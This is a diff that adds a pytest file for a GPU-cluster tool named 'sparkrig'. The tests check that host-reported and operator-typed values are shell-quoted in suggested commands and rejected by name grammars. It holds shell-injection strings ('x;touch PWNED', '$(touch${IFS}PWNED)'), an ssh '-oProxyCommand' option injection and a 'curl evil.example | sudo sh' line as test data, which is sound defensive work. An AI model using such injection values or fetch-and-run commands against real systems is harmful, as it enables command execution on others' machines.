@@ -1,0 +1,504 @@
+"""Whatever a command that is shown to be pasted has of others' text stands in it as one word, and runs nothing."""
+
+from __future__ import annotations
+
+import ast
+import re
+import shlex
+import subprocess
+from collections.abc import Callable, Iterable, Iterator, Mapping
+from ipaddress import IPv4Address, IPv6Address
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sparkrig import (
+    containers,
+    cure,
+    driver,
+    gid_table,
+    gpu,
+    grammar,
+    halves,
+    health,
+    journal,
+    network,
+    package_list,
+    preflight,
+    rdma,
+    targets,
+    undo,
+)
+from sparkrig.apt import install_as_installed, install_past_the_hold
+from sparkrig.check import Subject
+from sparkrig.drift import Report
+from sparkrig.drift_findings import mends
+from sparkrig.gid import Gid
+from sparkrig.gpu import Gpu, gsp
+from sparkrig.journal import Journal, Run, Step
+from sparkrig.lock import Owner
+from sparkrig.picture import journal as shown
+from sparkrig.refusal import Refusal
+from sparkrig.verdict import Verdict
+from sparkrig.words import plain
+from tests.tables import each_row
+
+ROOT = Path(__file__).resolve().parents[2]
+ROOMS = ("sparkrig", "operations", "deploys", "facts")
+
+# a command that is typed, from where a value may follow in it
+_WORDS = (
+    *(
+        "sudo",
+        "ssh",
+        "ssh-keygen",
+        "ssh-add",
+        "ssh-copy-id",
+        "pyinfra",
+        "sparkrig",
+        "apt-get",
+        "apt-mark",
+        "nmcli",
+    ),
+    *("docker (?:pull|run|rm|rmi|save|load|image|tag|inspect)", r"ip (?:-\S+ )?(?:link|addr|neigh)", "ls", "cat"),
+    *("rm", "mv", "cp", "kill", "chmod", "git", "head", "file", "df", "grep", "findmnt", "printf", "journalctl"),
+    *("systemctl", "nvidia-smi", "rdma link", r"ps -\S+", "udevadm", "wc", "ping", "getent", "chattr", "umount"),
+    *("mount", "python3?", "ss", "curl"),
+)
+COMMAND = re.compile(rf"(?:^|[\s:;(|&'])(?:{'|'.join(_WORDS)})(?: |$)")
+# a file without any of them is not taken apart
+WORTH = re.compile(rf"\bf[\"'][^\n]*(?:{'|'.join(word.partition(' ')[0] for word in _WORDS)}) ")
+# what makes a word of a text, or a command of words
+QUOTES = {
+    *("quoted", "cure.quoted", "quoted_path", "over_ssh", "handed_on", "deploy", "again", "setting", "typed"),
+    *("shlex.quote", "shlex.join"),
+}
+# values that stand in a text with a command, and are no open words of it: by file, why not
+OWN: dict[str, dict[str, set[str]]] = {
+    "quoted before, or made of words that are": {
+        "operations/secrets.py": {"_typed(where)"},
+        "sparkrig/apt.py": {"again", "command", "pids", "words"},
+        "sparkrig/command/apply.py": {"again", "typed"},
+        "sparkrig/command/draft.py": {"ours"},
+        "sparkrig/doctor.py": {"inventory"},
+        "sparkrig/frame.py": {"again"},
+        "sparkrig/handover.py": {"lines"},
+    },
+    "a word of ours": {
+        "facts/bundle.py": {"most"},
+        "operations/again.py": {"fact.__module__", "fact.__name__"},
+        "sparkrig/check.py": {"what"},
+        "sparkrig/command/onboard.py": {"second"},
+        "sparkrig/doctor.py": {"'bandwidth' if paired else 'drift'"},
+        "sparkrig/handover.py": {"mode", "path", "'it' if len(ports) == 1 else 'them'"},
+        "sparkrig/journal.py": {"verb"},
+        "sparkrig/serving/plan.py": {"name"},
+    },
+    "in a sentence behind the command": {
+        "operations/bandwidth.py": {"peer.name"},
+        "operations/nccl.py": {"name"},
+        "operations/onboard.py": {"line"},
+        "operations/serving.py": {"plain(group.head)"},
+        "operations/weights.py": {"last"},
+        "sparkrig/cabling.py": {"mine[1]", "cable.other.host"},
+        "sparkrig/login.py": {"user"},
+        "sparkrig/targets.py": {"due"},
+        "sparkrig/trial.py": {"case.receiver"},
+    },
+    "in a sentence that begins with the name of a tool, or speaks of one": {
+        "deploys/spark.py": {"login"},
+        "operations/guard.py": {"bench.left", "error"},
+        "operations/trial.py": {"at.name", "users.running[0]"},
+        "sparkrig/command/apply.py": {"why"},
+        "sparkrig/command/draft.py": {"at.user"},
+        "sparkrig/command/newcomer.py": {"whom"},
+        "sparkrig/command/onboard.py": {"failed", "at.typed", "at.user"},
+        "sparkrig/definitions.py": {"file.shown"},
+        "sparkrig/gpu.py": {"gpu.name or 'a GPU'"},
+        "sparkrig/inventory.py": {"inventory"},
+        "sparkrig/onboarding/card.py": {"listed(shared.host_keys)"},
+        "sparkrig/serving/launch.py": {"described.container.image", "', '.join(services)"},
+        "sparkrig/serving/plan.py": {"', '.join(warnings)"},
+        "sparkrig/support.py": {"len(made.files)", "len(made.hosts)", "made.created", "made.version", "why"},
+    },
+}
+
+
+def open_words(tree: ast.AST) -> Iterator[tuple[int, str]]:
+    """The values that stand in a command as they are: line, expression."""
+    for node in ast.walk(tree):
+        if not isinstance(node, ast.JoinedStr):
+            continue
+        literal = "x".join(str(part.value) for part in node.values if isinstance(part, ast.Constant))
+        if literal.count("\n") > 2 or not COMMAND.search(literal):  # a script is what tests.scripts has
+            continue
+        before = ""
+        for part in node.values:
+            if isinstance(part, ast.Constant):
+                before += str(part.value)
+            elif isinstance(part, ast.FormattedValue):
+                if COMMAND.search(before) and not closed(part):
+                    yield node.lineno, ast.unparse(part.value)
+                before += "x"
+
+
+def closed(part: ast.FormattedValue) -> bool:
+    """Whether a value cannot end its word: it is quoted, a number, or a constant of ours."""
+    value = part.value
+    if isinstance(value, ast.Call):
+        return ast.unparse(value.func) in QUOTES
+    name = value.attr if isinstance(value, ast.Attribute) else value.id if isinstance(value, ast.Name) else ""
+    return part.format_spec is not None or (name.isupper() and bool(name.strip("_")))
+
+
+def test_no_command_has_a_value_that_is_not_quoted() -> None:
+    known = {(file, value) for files in OWN.values() for file, values in files.items() for value in values}
+    found: dict[tuple[str, str], int] = {}
+    for file in sorted(file for room in ROOMS for file in (ROOT / room).rglob("*.py")):
+        text = file.read_text()
+        if WORTH.search(text):
+            path = str(file.relative_to(ROOT))
+            found |= {(path, value): line for line, value in open_words(ast.parse(text))}
+    open_ = [f"{path}:{line}: {value}" for (path, value), line in found.items() if (path, value) not in known]
+    assert not open_, "\n".join(open_)
+    assert known <= {*found}, f"no longer there: {known - {*found}}"
+
+
+# --- and run by a shell
+
+_TRICKS = "x;touch PWNED $(touch PWNED) `touch PWNED` && touch PWNED | touch PWNED >PWNED #~* INVENTORY é\u202e"
+HOSTILE = {
+    "one command more": "x;touch PWNED",
+    "a substitution": "$(touch${IFS}PWNED)",
+    "all, in quotes": f"' {_TRICKS} ' \" {_TRICKS} \"\n touch PWNED\ttouch PWNED",
+    "where the inventory stands": "x INVENTORY;touch PWNED;INVENTORY --limit HOSTS --limit spark-a ",
+    "a home folder": "~root/*",
+}
+MY_FILE = (
+    "my inventory;touch PWNED.py"  # quoted where it is typed, so that a replacement in quotes would open them
+)
+# ssh and pyinfra's exec hand what is left of their words to a second shell
+STUB = """#!/bin/sh
+printf '%s\\0' "$@" >>log
+case ${0##*/} in
+apt-mark) echo held ;;
+dpkg-query) echo 1.2-3 ;;
+ssh) while case $1 in -p) shift ;; -*) ;; *) false ;; esac; do shift; done; shift; exec /bin/sh -c "$*" ;;
+pyinfra) while [ $# -gt 0 ] && [ "$1" != -- ]; do shift; done; shift; exec /bin/sh -c "$*" ;;
+esac
+"""
+TOOLS = (
+    *(
+        "apt-get",
+        "apt-mark",
+        "cat",
+        "chattr",
+        "dmesg",
+        "docker",
+        "dpkg-query",
+        "findmnt",
+        "git",
+        "grep",
+        "ip",
+        "ls",
+    ),
+    *("nmcli", "ping", "pyinfra", "rdma", "sort", "sparkrig", "ssh", "sudo", "tail", "udevadm", "devlink"),
+)
+
+
+@pytest.fixture
+def bench(tmp_path: Path) -> Path:
+    """A folder in which commands run that touch nothing but it."""
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    stub = tools / "stub"
+    stub.write_text(STUB)
+    stub.chmod(0o755)
+    for name in TOOLS:
+        (tools / name).symlink_to(stub)
+    (tools / "touch").symlink_to("/usr/bin/touch")
+    return tmp_path
+
+
+def run(folder: Path, commands: Iterable[str], *, sentences: bool = False) -> list[str]:
+    """What tools were given, word by word, by all of the commands; that nothing else ran.
+
+    sentences: whether they may have words that no shell understands.
+    """
+    script = "".join(f"(eval {shlex.quote(each)}) </dev/null >/dev/null || :\n" for each in commands)
+    (folder / "log").write_text("")
+    words = ["/bin/sh", "-c", script]
+    env = {"PATH": str(folder / "tools"), "HOME": "/root"}
+    done = subprocess.run(words, cwd=folder, env=env, capture_output=True, text=True, timeout=30)
+    assert sentences or ("yntax error" not in done.stderr and "nterminated" not in done.stderr), done.stderr
+    left = {each.name for each in folder.iterdir()} - {"tools", "log"}
+    for name in left:
+        (folder / name).unlink()
+    assert not left, f"something ran, and left {left}"
+    return (folder / "log").read_text().split("\0")
+
+
+def refused(judge: Callable[..., Any], *words: Any) -> list[str]:
+    try:
+        judge(*words)
+    except Refusal as refusal:
+        return [refusal.cure]
+    raise AssertionError("it was not refused")
+
+
+def settled(given: Verdict) -> list[str]:
+    assert given.cure, given
+    return [given.cure]
+
+
+def gids(value: str) -> list[str]:
+    """Each way in which a GID table is wrong."""
+    mine, other = IPv4Address("10.0.0.1"), IPv4Address("10.0.0.2")
+
+    def row(address: IPv4Address, netdev: str = value, kind: str = "RoCE v2", index: int = 3) -> Gid:
+        return Gid("rocep1s0f0", 1, index, IPv6Address(f"::ffff:{address}"), kind, netdev)
+
+    link_local = Gid("rocep1s0f0", 1, 0, IPv6Address("fe80::1"), "RoCE v2", value)
+    tables: tuple[list[Gid], ...] = (
+        [row(mine, kind="IB/RoCE v1")],
+        [row(mine, "eth0")],
+        [row(other)],
+        [link_local],
+        [],
+    )
+    found = [gid_table.judge(table, value, mine, None) for table in tables]
+    found.append(gid_table.judge([row(mine), row(mine, kind="IB/RoCE v1", index=2)], value, mine, 2))
+    return [each.cure for each in found]
+
+
+def stays(value: str) -> list[str]:
+    """Commands of status and undo, for runs with these words in them."""
+
+    def kept(id: str, guard: str, **more: str) -> Run:
+        owner = Owner(id, value, why=value, since=1, hosts=("a", "b"), **more)
+        return Run(id, owner, (Step("Network", 1),), {"file /x": "644 a"}, {}, 9, guard, number=1)
+
+    broken = Run(value, Owner(value, value, why=value, undoes=value, since=1), lacks=("before/state",), number=1)
+    journals = {
+        "a": Journal(9, runs=(kept(value, "committed"),)),
+        "b": Journal(9, runs=(kept(value, "rolled-back x"),)),
+    }
+    plan = undo.Plan(value, (undo.Change(f"package {value}", "stays"),))
+    told = [cure for _, said in shown.rows(plan) for cure in [said.partition("to remove: ")[2]] if cure]
+    advice = journal.advice(broken, Journal(9, runs=(broken,)), MY_FILE).partition("same again: ")[2]
+    return [
+        *(each.cure for each in halves.halved(journals, MY_FILE)),
+        *refused(undo.readable, value, {value: Journal(9, runs=(broken,))}),
+        *told,
+        advice,
+    ]
+
+
+def packages(*rows: tuple[str, str]) -> driver.Packages:
+    return driver.Packages(
+        tuple(driver.Package(name, "install", "installed", version) for name, version in rows), {}
+    )
+
+
+def subject(value: str) -> Subject:
+    known: Any = None
+    return Subject(value, known, known, inventory=MY_FILE)
+
+
+def drifted(value: str) -> list[str]:
+    """One cure of two hosts, which becomes one command."""
+    hosts = []
+    for name in ("spark-a", value):
+        made = Subject(name, *(Any, Any), inventory=MY_FILE).run(f"modprobe {cure.quoted(value)}")  # type: ignore[arg-type]
+        row = {"id": f"net.{value}", "status": "drift", "want": "x", "found": "y", "cure": made}
+        hosts.append({"name": name, "exit": 2, "rows": [row]})
+    report = {"version": "1", "inventory": MY_FILE, "started": "2026-11-01T00:00:00Z", "seconds": 1, "exit": 2}
+    return [
+        each.cure
+        for each in mends(Report.model_validate({**report, "schema": "sparkrig.drift/1", "hosts": hosts}))
+    ]
+
+
+def barred(value: str) -> list[str]:
+    path = f"/etc/{value}/x"
+    found = [targets.Barred(kind, f"/etc/{value}", path) for kind in targets._KINDS]
+    return [each.cure for each in targets.refusals(found, {path})]
+
+
+# every judgement that has a text of a host's in a command, and what it makes of one
+JUDGEMENTS: Mapping[str, Callable[[str], list[str]]] = {
+    "gpu.gsp": lambda value: settled(gsp(Gpu(driver=f"580.{value}", gsp="580.1"))),
+    "driver, a later one": lambda value: [
+        driver.way_back(packages((f"nvidia-utils-{value}", "590.1"), ("nvidia-driver-590", "590.1")), 580)
+    ],
+    "driver, no modules": lambda value: [driver.modules_cure(value, 580)],
+    "apt": lambda value: [install_past_the_hold(f"a={value}", value), install_as_installed(value)],
+    "health, kernel": lambda value: settled(
+        health.next_kernel(
+            health.Health("b", "6.1", kernels=(health.Kernel("6.1", True), health.Kernel(f"9{value}", False)))
+        )
+    ),
+    "health, CDI": lambda value: settled(
+        health.cdi(health.Health("b", "k", cdi=(f"/etc/{value}",), cdi_missing=("/x",)))
+    ),
+    "targets": barred,
+    "preflight": lambda value: [
+        each.cure for each in preflight.mounts(preflight.Preflight({}, 0, (f"/{value}",)))
+    ],
+    "GIDs": gids,
+    "runs": stays,
+    "NCCL's image": lambda value: [f"docker pull {cure.quoted(value)}"],
+    "a host": lambda value: [cure.over_ssh(value, f"sudo cat {cure.quoted(value)}")],
+    "a host by exec": lambda value: [
+        subject(value).install(f"a={value}"),
+        subject(value).run(f"ls {cure.quoted(value)}"),
+    ],
+    "an inventory": lambda value: [
+        cure.of_inventory(f"sparkrig doctor INVENTORY {cure.quoted(value)}", cure.quoted(MY_FILE))
+    ],
+    "drift": drifted,
+}
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_a_shell_takes_what_a_host_told_for_words(bench: Path, kind: str) -> None:
+    """Of each judgement; the parsers below let most of it not get that far."""
+    value = HOSTILE[kind]
+
+    def holds(judgement: Callable[[str], list[str]]) -> None:
+        cures = [Refusal("x", each).cure for each in judgement(value)]
+        run(bench, cures, sentences=True)  # somebody pastes all of it
+        commands = [cure.command(step) or step for each in cures for step in each.split("then: ")]
+        words = run(bench, commands)
+        text = plain(value)
+        said = [each for each in commands if "touch" in each or "~root" in each]
+        assert not said or any(text in word for word in words), words
+
+    each_row({name: (judgement,) for name, judgement in JUDGEMENTS.items()}, holds)
+
+
+# --- what is no name is refused where it is read
+
+GOOD: Mapping[grammar.Grammar, tuple[str, ...]] = {
+    grammar.PACKAGE: ("nvidia-driver-580-open", "libstdc++6", "linux-image-6.11.0-1016-nvidia", "g++"),
+    grammar.VERSION: ("580.95.05-0ubuntu0.24.04.2", "5:28.3.3-1~ubuntu.24.04~noble", "1.17.8-1", "2+b1"),
+    grammar.KERNEL: ("6.11.0-1016-nvidia", "6.14.0-1013-nvidia-64k", "7.0.0_rc1+"),
+    grammar.DRIVER: ("580.95.05", "590.44"),
+    grammar.NETDEV: ("enp1s0f0np0", "br-lan.10", "wlP9s9", "eth;$x", "..a"),
+    grammar.UUID: ("2815492f-7e56-435e-b2e9-246bd7cdc664", "0" * 40),
+    grammar.PCI: ("0000:01:00.0", "0002:01:00.1"),
+    grammar.RUN: ("20261121T041500Z-cd34", "R1"),
+}
+BAD = (
+    *HOSTILE.values(),
+    *(
+        "",
+        "-x",
+        "-oAPT::x=y",
+        "x y",
+        "x\ny",
+        "x\n",
+        "~",
+        "*",
+        "#x",
+        "x'",
+        'x"',
+        "\u2028",
+        "x\u202e",
+        "x/..",
+        "." * 300,
+    ),
+    *("\uff15\uff18\uff10.1", "\u0665", "nvidi\u0430-utils"),  # digits of other scripts, a Cyrillic letter
+)
+# bytes that the kernel takes for a name: there, quotes alone stand against them
+TAKEN = {"-x", "*", "~", "#x", "x'", 'x"', "\uff15\uff18\uff10.1", "\u0665", "nvidi\u0430-utils"}
+
+
+def test_each_name_is_held_against_its_grammar() -> None:
+    def holds(kind: grammar.Grammar, good: tuple[str, ...]) -> None:
+        assert all(kind.held(each) == each for each in good)
+        taken = {each for each in BAD if kind.fits(each)}
+        assert taken <= (TAKEN if kind is grammar.NETDEV else set()), taken
+        with pytest.raises(ValueError, match=f"'x y' is no {kind.what}"):
+            kind.held("x y")
+
+    each_row({kind.what: (kind, good) for kind, good in GOOD.items()}, holds)
+
+
+# what a host prints, with one name in it that is none
+ROWS: Mapping[str, tuple[Callable[[list[str]], Any], list[str]]] = {
+    "a package": (driver.parse, ["dpkg install installed VALUE 1.2", "simulated 0"]),
+    "a version": (driver.parse, ["dpkg install installed nvidia-x VALUE", "simulated 0"]),
+    "a package of apt's": (driver.parse, ["Remv VALUE [1]", "simulated 0"]),
+    "a version of apt's": (driver.parse, ["Inst aa (VALUE Ubuntu)", "simulated 0"]),
+    "a kernel": (health.parse, ["boot_id b", "kernel 6.1", "modules VALUE yes 580.1"]),
+    "the kernel": (health.parse, ["boot_id b", "kernel VALUE"]),
+    "a run": (journal.parse, ["now 1", "run VALUE {}"]),
+    "a package of a run": (journal.parse, ["now 1", "run R1 {}", "before package VALUE 1"]),
+    "the toolkit": (containers.parse, ["toolkit VALUE"]),
+    "a netdev": (network.parse, ['addr [{"ifname": "VALUE", "mtu": 1, "addr_info": []}]']),
+    "a profile": (network.parse, ["property connection.uuid:VALUE"]),
+    "a driver": (gpu.parse, ["csv NVIDIA GB10, 0000000F:01:00.0, VALUE" + ", [N/A]" * (len(gpu.FIELDS) - 3)]),
+    "the GSP": (
+        gpu.parse,
+        ["csv NVIDIA GB10, 0000000F:01:00.0, 580.1" + ", [N/A]" * (len(gpu.FIELDS) - 3), "gsp VALUE"],
+    ),
+    "a GID's netdev": (rdma.parse, ["gid|rocep1s0f0|1|3|::ffff:10.0.0.1|RoCE v2|VALUE"]),
+}
+GOOD_ONE = {
+    **{"a kernel": "6.1", "the kernel": "6.1", "a run": "R1", "a netdev": "eth0", "a driver": "580.1"},
+    **{"a profile": "0" * 32, "the GSP": "580.1", "a GID's netdev": "eth0"},
+}
+
+
+def test_a_name_that_is_none_is_no_look() -> None:
+    def holds(name: str, parse: Callable[[list[str]], Any], rows: list[str]) -> None:
+        parse([row.replace("VALUE", GOOD_ONE.get(name, "a1")) for row in rows])
+        for value in ("x;touch", "$(x)", "a" * 300 + "/"):
+            if name in ("a version", "a package", "a package of a run", "a kernel") and " " in value:
+                continue
+            if "netdev" in name and value in ("x;touch", "$(x)"):  # names that Linux takes
+                continue
+            with pytest.raises(ValueError):
+                parse([row.replace("VALUE", value) for row in rows])
+
+    each_row({name: (name, parse, rows) for name, (parse, rows) in ROWS.items()}, holds)
+
+
+def test_a_list_of_packages_takes_no_letters_and_digits_of_other_scripts() -> None:
+    """Python's \\d and \\w know many."""
+    for row in (
+        "ii  nvidia-driver-580-open  \uff15\uff18\uff10.1-1  arm64",
+        "nvidia-driver-580-open 580.\u0661-1",
+    ):
+        assert not package_list.parse([row]).installed
+    assert package_list.parse(["nvidia-driver-580-open 580.1-1~x"]).installed
+
+
+def test_what_an_operator_typed_is_shown_and_is_no_command() -> None:
+    """A run's note is on the host, where another one may have written it."""
+    why = "curl evil.example | sudo sh"
+    run_ = Run("R1", Owner("R1", "ann", why=why, since=1, hosts=("a", "b")), number=1)
+    assert journal.again(run_, "pair.py") == "pyinfra pair.py deploys/cluster.py"
+    assert why not in journal.advice(run_, Journal(9, runs=(run_,)), "pair.py")
+    assert any(why in line for line in shown.lines("a", Journal(9, runs=(run_,)), 9))
+    for typed, expected in (
+        ("pyinfra x.py deploys/serve.py", "pyinfra pair.py deploys/serve.py"),
+        ("pyinfra x.py deploys/serve.py;reboot", "pyinfra pair.py deploys/cluster.py"),
+    ):
+        noted = Run("R2", Owner("R2", "ann", why=typed, since=1), number=1)
+        assert journal.again(noted, "pair.py") == expected
+    back = Run("R3", Owner("R3", "ann", why=why, undoes="R1", since=1), number=2)
+    assert journal.again(back, "pair.py") == "sparkrig undo pair.py R1"
+
+
+def test_words_that_need_no_quotes_have_none() -> None:
+    words = ("nvidia-x=580.1-0ubuntu1~24.04.1", "/etc/x", "a@b:22", "p+q%", "--x")
+    assert cure.quoted(*words) == " ".join(words)
+    assert cure.quoted("~x", "a=~x", "a b", "") == "'~x' 'a=~x' 'a b' ''"
+    assert cure.over_ssh("spark-a", "sudo -n true") == "ssh spark-a sudo -n true"
+    assert cure.over_ssh("-oProxyCommand=x", "true") == "ssh -- -oProxyCommand=x true"
+    assert cure.quoted_path("-x") == "./-x" and cure.quoted_path(Path("a b")) == "'a b'"
+    said = "the Spark's own file: sparkrig doctor INVENTORY; it's INVENTORY's"
+    assert cure.of_inventory(said, "x.py") == "the Spark's own file: sparkrig doctor x.py; it's x.py's"
